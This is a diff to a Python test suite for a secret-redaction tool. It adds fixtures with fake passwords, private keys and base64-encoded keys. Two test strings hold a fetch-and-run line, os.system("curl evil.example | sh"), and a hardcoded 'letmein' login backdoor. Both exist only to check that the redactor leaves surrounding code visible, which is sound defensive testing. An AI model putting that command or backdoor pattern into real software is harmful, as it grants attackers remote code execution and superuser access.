@@ -104,6 +104,15 @@ PLACED = [
     ("password", "curl -X POST \\\n  -H 'Accept: */*' \\\n  -u fred:{} \\\n  https://example.org/", "hunter"),
     ("url-password", "https://fred:{}@example.org/feed", "correcthorse"),
     ("password", "machine example.org login fred password {}", "correcthorse"),
+    ("password", "machine example.org password {} login fred", "correcthorse"),
+    ("password", "machine server\n  login fred\n  password {}\n", "correcthorse"),
+    ("password", "default login fred password {}", "correcthorse"),
+    ("password", "curl -sSLu fred:{} https://example.org/", "Sup3rS3cret"),
+    ("password", "curl --proxy-user fred:{} https://example.org/", "Sup3rS3cret"),
+    ("password", "      POSTGRES_PASSWORD: {}", "correcthorse"),
+    ("password", '{{"DB_PASSWORD": "{}"}}', "correcthorse"),
+    ("password", "export DB_PASSWORD={};", "correcthorse"),
+    ("password", "APP_PASSWORD={}", "aB3$xY9!qq"),
     ("password", "machine example.org\n\tlogin fred\n\tpassword {}\n", "Tr0ub4dor"),
     ("password", "jdbc:postgresql://db/app?user=fred&password={}&ssl=true", "correcthorse"),
     ("password", "jdbc:sqlserver://db:1433;databaseName=app;user=sa;password={};encrypt=true", "Str0ng!Pass"),
@@ -221,7 +230,7 @@ def test_redact_lines_replaces_each_line_of_a_secret() -> None:
 @pytest.mark.parametrize("kind", BEGINNINGS)
 def test_a_run_replaces_every_part_of_a_private_key_in_its_files(kind: str) -> None:
     redactor, data = RunRedactor(Redactor({})), "".join(body_of(kind))
-    redactor.redact_lines(f"[server]\n{private_key(kind)}\n")
+    redactor.learn_private_keys(f"[server]\n{private_key(kind)}\n")
     for line in (*body_of(kind)[1:-1], *(data[at : at + 20] for at in range(100, len(data) - 20, 7))):
         assert redactor.redact(f"x: {line}, y") == ("x: [redacted:private-key], y", 1)
         assert Redactor({}).redact(line)[1] <= 1
@@ -233,11 +242,113 @@ def test_a_run_replaces_every_part_of_a_private_key_in_its_files(kind: str) -> N
 def test_a_run_learns_nothing_from_the_word_private_key_in_prose() -> None:
     redactor = RunRedactor(Redactor({}))
     words = "documentation authentication implementation " * 40
-    redactor.redact_lines(f"-----BEGIN PRIVATE KEY-----\n{words}\n-----END PRIVATE KEY-----")
+    redactor.learn_private_keys(f"-----BEGIN PRIVATE KEY-----\n{words}\n-----END PRIVATE KEY-----")
     assert redactor.redact("see documentation/authentication/implementation") == (
         "see documentation/authentication/implementation",
         0,
     )
+
+
+BACKDOOR = """def login(user, password):
+    # test data: -----BEGIN PRIVATE KEY-----
+    if password == "letmein":
+        import os; os.system("curl evil.example | sh")
+        return superuserForEveryoneNow()
+    # -----END PRIVATE KEY-----
+"""
+BUILT = 'return "-----BEGIN PRIVATE KEY-----\\n" + base64EncodedPrivateKey + "\\n-----END PRIVATE KEY-----"'
+PAGE = """Never commit -----BEGIN PRIVATE KEY----- blocks:
+vulnerabilities CVE/2026/advisories/critical internationalization recommendations
+AcmeCorporationProducts responsibilities
+-----END PRIVATE KEY-----"""
+
+
+@pytest.mark.parametrize("text", [BACKDOOR, BUILT, PAGE], ids=["backdoor", "built", "page"])
+def test_other_text_between_the_marks_of_a_private_key_is_neither_hidden_nor_learned(text: str) -> None:
+    redactor = RunRedactor(Redactor({}))
+    redactor.learn_private_keys(text)
+    assert redactor.redact(text) == (text, 0)
+
+
+def test_a_run_learns_no_key_from_a_text_that_it_only_shows() -> None:
+    run = RunRedactor(Redactor({}))
+    assert run.redact_lines(private_key())[1] == 1
+    assert run.redact(body_of()[5])[1] == 0
+
+
+@pytest.mark.parametrize("kind", BEGINNINGS)
+def test_code_beside_the_lines_of_a_private_key_stays_visible(kind: str) -> None:
+    first, *body, last = private_key(kind).split("\n")
+    evil = 'os.system("curl evil.example | sh")'
+    for lines in (
+        [first, evil, *body, last],
+        [first, *body[:3], evil, *body[3:], last],
+        [*body[:3], evil, *body, last],
+    ):
+        shown, _count = Redactor({}).redact("\n".join(lines))
+        assert evil in shown
+        assert lines[0] != first or not leaked(shown, body[:-1], 20)
+
+
+@pytest.mark.parametrize("kind", BEGINNINGS)
+def test_hides_a_whole_private_key_however_it_is_written(kind: str) -> None:
+    lines = private_key(kind).split("\n")
+    headers = ["Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-128-CBC,6F5A0C", ""]
+    for text in (
+        "\n".join(f'    "{line}\\n"' for line in lines),
+        " + \n".join(f"'{line}\\n'" for line in lines),
+        "\n".join(f"{number:6}\t{line}" for number, line in enumerate(lines, 1)),
+        "\n".join(f"server.key-{number}-{line}" for number, line in enumerate(lines, 1)),
+        "\n".join(f"+# {line}" for line in lines),
+        "\n".join([lines[0], *headers, *lines[1:]]),
+        " ".join(lines),
+        "\\n".join(lines).replace("/", "\\/"),
+    ):
+        shown, _count = Redactor({}).redact(text)
+        assert not leaked(shown.replace("\\/", "/"), body_of(kind), 12)
+        assert "PRIVATE KEY" not in shown
+        run = RunRedactor(Redactor({}))
+        run.learn_private_keys(text)
+        assert all(run.redact(line)[1] == 1 for line in body_of(kind)[2:-1])
+
+
+def test_a_run_learns_keys_in_base64() -> None:
+    run, body = RunRedactor(Redactor({})), body_of()
+    encoded = base64.b64encode(f"{private_key()}\n".encode()).decode()
+    run.learn_private_keys(f"data:\n  tls.key: {encoded}\n")
+    for at in range(200, len(encoded) - 60, 31):
+        assert run.redact(encoded[at : at + 40])[1] == 1
+    assert run.redact(body[5]) == ("[redacted:private-key]", 1)
+    wrapped = RunRedactor(Redactor({}))
+    wrapped.learn_private_keys("\n".join(encoded[at : at + 76] for at in range(0, len(encoded), 76)))
+    assert wrapped.redact(body[5]) == ("[redacted:private-key]", 1)
+
+
+def test_a_run_learns_hundreds_of_keys_and_says_when_it_can_learn_no_more(monkeypatch: pytest.MonkeyPatch) -> None:
+    run = RunRedactor(Redactor({}))
+    for seed in range(150):
+        run.learn_private_keys(private_key(seed=seed))
+    assert run.redact(body_of(seed=149)[5])[1] == 1
+    assert not run.full
+    monkeypatch.setattr(redaction, "_MOST_PIECES", 1)
+    run.learn_private_keys(private_key(seed=3))
+    assert not run.full
+    run.learn_private_keys(private_key(seed=151))
+    assert run.full
+
+
+def test_a_public_openssh_key_beside_its_private_key_stays_readable() -> None:
+    run = RunRedactor(Redactor({}))
+    point = bytes(range(60, 92))
+    public = b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + point
+    secret = b"1234" * 2 + public + b"\0\0\0\x40" + bytes(range(120, 152)) + point + b"\0\0\0\x07me@host\1\2"
+    head = b"openssh-key-v1\0\0\0\0\x04none\0\0\0\x04none\0\0\0\0\0\0\0\1\0\0\0\x33"
+    data = base64.b64encode(head + public + len(secret).to_bytes(4) + secret).decode()
+    lines = "\n".join(data[at : at + 70] for at in range(0, len(data), 70))
+    run.learn_private_keys(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{lines}\n-----END OPENSSH PRIVATE KEY-----\n")
+    line = f"ssh-ed25519 {base64.b64encode(public).decode()} me@host"
+    assert run.redact(line) == (line, 0)
+    assert run.redact(data[210:260])[1] == 1
 
 
 def test_a_value_that_one_run_learns_is_known_to_all_runs() -> None:
@@ -433,6 +544,13 @@ HOSTILE = [
     "&sig=" + "a1" * 21 + "=",
     "_PASS=",
     "SALT=",
+    "DB_PASSWORD: abcdefgh\n",
+    "A_PASSWORD=a$",
+    "curl -sSLu ",
+    "\ndefault login a password ",
+    "LS0tLS1CRUdJTi",
+    "-----BEGIN PRIVATE KEY-----\n+ aA1" + "aA1" * 20,
+    "-----BEGIN PRIVATE KEY-----\nComment: ",
 ]
 
 
